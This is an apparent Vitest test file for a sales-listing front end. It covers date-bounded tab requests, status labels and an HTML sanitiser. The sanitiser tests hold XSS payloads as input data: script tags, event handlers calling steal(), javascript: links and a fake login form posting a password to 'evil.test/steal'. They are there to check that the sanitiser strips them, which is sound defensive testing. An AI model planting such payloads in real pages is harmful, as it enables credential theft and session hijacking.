// @vitest-environment jsdom
import { salesRequest, todayBounds, featuredRequest } from '../../src/lib/salesTabs';
import { sanitizeHtml } from '../../src/lib/sanitize';
import { lotStatusLabel, soldToLabel } from '../../src/lib/status';

describe('sales tabs', () => {
  const now = new Date(2026, 10, 22, 15, 30);
  it('today runs from local midnight to the next', () => {
    const { start, end } = todayBounds(now);
    expect(new Date(start)).toEqual(new Date(2026, 10, 22));
    expect(new Date(end)).toEqual(new Date(2026, 10, 23));
  });
  it('each tab asks for its rows and its order, 10 per page, search trimmed', () => {
    expect(salesRequest('upcoming', '  oak ', 2, now)).toMatchObject({
      isUpComing: true,
      search: 'oak',
      pagination: { current: 2, pageSize: 10 },
      sorter: { order: 'ascend' },
    });
    expect(salesRequest('today', '', 1, now)).toMatchObject({
      startTime: new Date(2026, 10, 22).toISOString(),
      endDate: new Date(2026, 10, 23).toISOString(),
      sorter: { order: 'ascend' },
    });
    expect(salesRequest('completed', '', 1, now)).toMatchObject({
      isCompleted: true,
      stoppedTime: new Date(2026, 10, 23).toISOString(),
      sorter: { order: 'descend' },
    });
    expect(salesRequest('cancelled', '', 1, now)).toMatchObject({
      isCancelled: true,
      sorter: { order: 'descend' },
    });
    expect(featuredRequest()).toMatchObject({ showFeatured: true, pagination: { pageSize: 100 } });
  });
});

describe('sanitising server HTML', () => {
  it('removes scripts, handlers and javascript: links, keeps formatting', () => {
    const out = sanitizeHtml(
      '<h2>Title</h2><p onclick="x()">Hi <b>there</b></p><script>alert(1)</script><img src="a.png" onerror="steal()"><a href="javascript:alert(1)">x</a>',
    );
    expect(out).toContain('<h2>Title</h2>');
    expect(out).toContain('<b>there</b>');
    expect(out).not.toMatch(/script|onerror|onclick|javascript:/);
    expect(sanitizeHtml(null)).toBe('');
  });

  it('drops style sheets with their rules, keeps the text around them', () => {
    const out = sanitizeHtml(
      '<p>Read <i>this</i></p><style>body{display:none}</style><div><style>a{}</style>x</div>',
    );
    expect(out).not.toMatch(/<style|display:none|a\{\}/);
    expect(out).toBe('<p>Read <i>this</i></p><div>x</div>');
  });

  it('drops forms with their inputs and buttons', () => {
    const out = sanitizeHtml(
      '<p>Before</p><form action="https://evil.test/steal" method="post"><label>Password <input type="password" name="p"></label><button type="submit">Sign in</button></form><input name="loose"><button>Loose</button><textarea>t</textarea><select><option>o</option></select><p>After</p>',
    );
    expect(out).not.toMatch(
      /<form|<input|<button|<textarea|<select|<option|evil\.test|Sign in|Password|Loose/,
    );
    expect(out).toBe('<p>Before</p><p>After</p>');
  });

  it('drops every event-handler attribute', () => {
    const handlers = [
      'onclick',
      'onerror',
      'onload',
      'onmouseover',
      'onfocus',
      'onanimationstart',
      'ONCLICK',
    ];
    const out = sanitizeHtml(
      handlers.map((h, i) => `<a href="/x${i}" ${h}="steal()">link</a>`).join('') +
        '<img src="a.png" onerror="steal()"><div tabindex="0" onfocusin="steal()">d</div>',
    );
    expect(out).not.toMatch(/\son[a-z]+=|steal/i);
    expect(out).toContain('<a href="/x0">link</a>');
    expect(out).toContain('<img src="a.png">');
  });
});

describe('status labels', () => {
  it('shows Listed as Published, PendingTransaction as Awaiting Payoff, and Postponed', () => {
    expect(lotStatusLabel('Listed')).toBe('Published');
    expect(lotStatusLabel('Listed', true)).toBe('Postponed');
    expect(lotStatusLabel('PendingTransaction')).toBe('Awaiting Payoff');
    expect(soldToLabel('Plaintiff')).toBe('Plaintiff');
    expect(soldToLabel(null)).toBe('—');
  });
});
